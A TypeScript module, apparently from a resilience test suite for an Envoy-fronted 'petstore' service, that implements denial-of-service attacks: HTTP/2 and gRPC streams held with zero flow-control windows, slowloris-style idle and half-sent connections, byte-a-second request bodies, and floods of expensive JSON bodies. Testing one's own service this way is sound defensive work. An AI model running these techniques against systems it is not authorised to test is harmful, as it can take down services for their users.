/** What attacks send, by the thousand. */
import type { ClientHttp2Stream } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import { generateKey } from '../../../src/access/keys/format.ts';
import type { AttackContext, Size } from './attack.ts';
import { type Fields, FrameSession, type RawRequest } from './frames.ts';
import { Http1Connection } from './http1-connection.ts';
import { grpcFrame, grpcHeaders, openSession, openSocket } from './sockets.ts';

const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

export function get(path: string, key?: string): Fields {
  const authorization = key === undefined ? {} : { authorization: `Bearer ${key}` };
  return { ':method': 'GET', ':scheme': 'http', ':path': path, ':authority': 'petstore', ...authorization };
}

export function grpc(path: string, key?: string): Fields {
  return { ...get(path, key), ':method': 'POST', 'content-type': 'application/grpc', te: 'trailers' };
}

/** Runs `begin` for every connection, `atATime` of them concurrently. */
async function forEachConnection({ connections }: Size, begin: (index: number) => Promise<void>, atATime = 100) {
  let next = 0;
  const worker = async () => {
    while (next < connections) await begin(next++);
  };
  await Promise.all(Array.from({ length: atATime }, worker));
}

interface Opening {
  /** What the streams of a connection send, in turn. */
  readonly requests: readonly (() => RawRequest)[];
  /** The first request of each connection, by which Envoy learns a key on each of its threads. */
  readonly first?: Fields;
  /** After this time streams that have ended are opened again. */
  readonly againMs?: number;
}

export async function openStreams(
  { target, size, count, signal }: AttackContext,
  { requests, first, againMs }: Opening,
): Promise<void> {
  await forEachConnection(size, async (index) => {
    const session = await FrameSession.open(target, index);
    if (session === undefined) {
      for (let i = 0; i < size.perConnection; i += 1) count('refused connection');
      return;
    }
    if (first !== undefined) await session.request({ fields: first, isWhole: true });
    const send = () => {
      for (let i = session.openStreams; i < size.perConnection; i += 1) {
        const request = requests[i % requests.length];
        if (request !== undefined) void session.request(request()).then(count);
      }
    };
    send();
    const timer = againMs === undefined ? undefined : setInterval(send, againMs);
    signal.addEventListener('abort', () => {
      clearInterval(timer);
      session.destroy();
    });
  });
}

/**
 * Complete requests on streams with a window of 0. Nothing is sent before all connections are open: an overload manager
 * would notice a gradual load.
 */
export async function getUnread({ target, size, count, signal }: AttackContext, path: string): Promise<void> {
  const sessions: FrameSession[] = [];
  await forEachConnection(size, async (index) => {
    const session = await FrameSession.open(target, index, 0);
    if (session === undefined) return count('refused connection');
    sessions.push(session);
    signal.addEventListener('abort', () => session.destroy());
  });
  for (const session of sessions) {
    for (let i = 0; i < size.perConnection; i += 1) {
      void session.request({ fields: get(path), isWhole: true }).then(count);
    }
  }
}

/** Streams that repeat a small request, whose answer has several kilobytes, as fast as the other side takes it. */
export async function reflectUnread({ target, size, signal }: AttackContext): Promise<void> {
  const request = grpcFrame(Buffer.concat([Buffer.of(0x22, 22), Buffer.from('petstore.v1.PetService')]));
  const repeated = Buffer.concat(Array<Buffer>(100).fill(request));
  const repeat = (stream: ClientHttp2Stream): void => {
    if (stream.writable) stream.write(repeated, () => repeat(stream));
  };
  await forEachConnection(size, async (index) => {
    const session = await openSession(target, index, { initialWindowSize: 0 });
    signal.addEventListener('abort', () => session.destroy());
    for (let i = 0; i < size.perConnection; i += 1) {
      repeat(session.request(grpcHeaders(REFLECTION), { endStream: false }).on('error', () => undefined));
    }
  });
}

const JSON_TYPE = 'Content-Type: application/json\r\n';
/** It is expensive to parse. */
const MANY_NUMBERS = `[${'1,'.repeat(2 ** 19)}1]`;

function toRequest(method: string, path: string, lines: string, body?: string): Buffer {
  const length = body === undefined ? '' : `Content-Length: ${body.length}\r\n`;
  return Buffer.from(`${method} ${path} HTTP/1.1\r\nHost: petstore\r\n${lines}${length}\r\n${body ?? ''}`);
}

/** Sends a request again and again, after a 503 only when Retry-After says so. */
async function exchangeRepeatedly({ target, count, signal }: AttackContext, request: Buffer): Promise<void> {
  const connection = new Http1Connection(target);
  signal.addEventListener('abort', () => connection.close());
  while (!signal.aborted) {
    const answer = await connection.exchange(request, { giveUpMs: 30_000 });
    const [status, retryAfter] =
      typeof answer === 'string' ? [answer, '1'] : [answer.status, answer.headers.get('retry-after')];
    count(status === 503 && retryAfter === null ? '503 without Retry-After' : `${status}`);
    const mayBeSoon = status === 401 || status === 429;
    await delay(mayBeSoon ? 0 : 1_000 * Number(retryAfter), undefined, { signal }).catch(() => undefined);
  }
}

/** Callers with a key, each with one request at a time. */
export async function comeInCrowds(context: AttackContext): Promise<void> {
  const perAddress = 50;
  const request = toRequest('GET', '/pets', `Authorization: Bearer ${context.key}\r\n`);
  const come = async (index: number) => {
    const target = { ...context.target, from: [`127.0.1.${1 + Math.floor(index / perAddress)}`] as const };
    void exchangeRepeatedly({ ...context, target }, request);
    await delay(1); // callers arrive over time
  };
  await forEachConnection(context.size, come, 4);
}

/** The same large body again and again. */
export async function sendHeavyBodies(context: AttackContext): Promise<void> {
  const request = toRequest('POST', '/pets', JSON_TYPE, MANY_NUMBERS);
  await forEachConnection(context.size, async () => void exchangeRepeatedly(context, request));
}

/** Of a body of 1 MiB 60 kB come, and then a byte a second. Half of them have a key that needs a look-up. */
export async function sendEndlessBodies({ target, size, count, signal }: AttackContext): Promise<void> {
  const toChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
  await forEachConnection(size, async (index) => {
    const isChunked = index % 2 === 1;
    const part = (text: string) => (isChunked ? toChunk(text) : text);
    const key = index % 4 < 2 ? `Authorization: Bearer ${generateKey()}\r\n` : '';
    const length = isChunked ? 'Transfer-Encoding: chunked\r\n' : `Content-Length: ${2 ** 20}\r\n`;
    const socket = openSocket(target, index);
    let outcome = 'closed';
    const dripping = setInterval(() => socket.write(part(' ')), 1_000);
    signal.addEventListener('abort', () => socket.destroy());
    socket.once('data', (answer: Buffer) => {
      outcome = answer.toString('latin1').split(' ', 2)[1] ?? 'nonsense';
      socket.destroy();
    });
    socket.once('close', () => {
      clearInterval(dripping);
      count(outcome);
    });
    socket.write(toRequest('POST', '/pets', JSON_TYPE + key + length));
    socket.write(part(MANY_NUMBERS.slice(0, 60_000)));
    await delay(1);
  });
}

/** Connections that send nothing; some half a request, or the greeting of HTTP/2 alone. */
export async function idle({ target, size, count, signal }: AttackContext): Promise<void> {
  const greeting = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0'; // RFC 9113, section 3.4
  await forEachConnection(size, async (index) => {
    const socket = openSocket(target, index).resume(); // without it the end is not noticed
    signal.addEventListener('abort', () => socket.destroy());
    socket.on('close', () => count('closed'));
    await new Promise<void>((resolve) => socket.once('connect', resolve).once('close', resolve));
    if (index % 10 === 0) socket.write('GET /pets HTTP/1.1\r\nHost: ');
    if (index % 10 === 1) socket.write(greeting, 'latin1');
  });
}
